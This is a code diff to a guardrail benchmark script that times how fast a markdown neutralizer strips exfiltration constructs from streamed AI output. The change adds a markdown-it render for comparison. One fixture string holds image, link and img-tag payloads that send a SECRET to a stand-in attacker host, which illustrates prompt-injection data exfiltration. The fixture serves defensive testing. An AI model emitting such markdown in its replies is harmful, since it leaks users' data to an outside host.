@@ -7,6 +7,7 @@
 // - time to first token added by the holdback: how many upstream deltas pass before the client sees text,
 //   converted to milliseconds at a given generation speed.
 import { parseArgs } from 'node:util';
+import MarkdownIt from 'markdown-it';
 import { negatives, positives } from '../guardrails/eval/generate.ts';
 import { compileGuard, STRICT_GUARDRAILS } from '../guardrails/guard.ts';
 import { scoreText } from '../guardrails/injection.ts';
@@ -112,7 +113,8 @@ console.log(`injection scorer: ${((performance.now() - t1) / 2000 * 1000).toFixe
   const ATTACK = `Here: ![chart](https://evil.example/c.png?d=SECRET) and https://evil.example/x?d=1 <img src="https://evil.example/p"> [r][ref]\n\n[ref]: https://evil.example/r\n\n`;
   const kb = 256;
   const unit = (u: string) => u.repeat(Math.ceil((kb * 1024) / u.length)).slice(0, kb * 1024);
-  console.log(`\nexfiltration stage (${kb} KB per text): µs per KB whole / streamed in 4-char deltas / streamed in 64-char deltas`);
+  const client = MarkdownIt({ html: true, linkify: true });
+  console.log(`\nexfiltration stage (${kb} KB per text): µs per KB whole / streamed in 4-char deltas / streamed in 64-char deltas; a client's own markdown-it render for scale`);
   for (const [name, text] of [['prose', unit(PROSE)], ['chat markdown (links to allowed hosts, code, lists, tables)', unit(MD)], ['attack markdown (every construct to a remote host)', unit(ATTACK)]] as const) {
     neutralizeMarkdown(text.slice(0, 20_000), policy); // warm up
     let t0 = performance.now();
@@ -126,6 +128,9 @@ console.log(`injection scorer: ${((performance.now() - t1) / 2000 * 1000).toFixe
       s.end();
       per.push((((performance.now() - t0) * 1000) / kb).toFixed(0));
     }
-    console.log(`  ${name.padEnd(62)}${((whole * 1000) / kb).toFixed(0).padStart(8)} / ${per.join(' / ')} µs/KB`);
+    t0 = performance.now();
+    client.render(text);
+    const render = performance.now() - t0;
+    console.log(`  ${name.padEnd(62)}${((whole * 1000) / kb).toFixed(0).padStart(8)} / ${per.join(' / ')} µs/KB   (render ${((render * 1000) / kb).toFixed(0)} µs/KB)`);
   }
 }
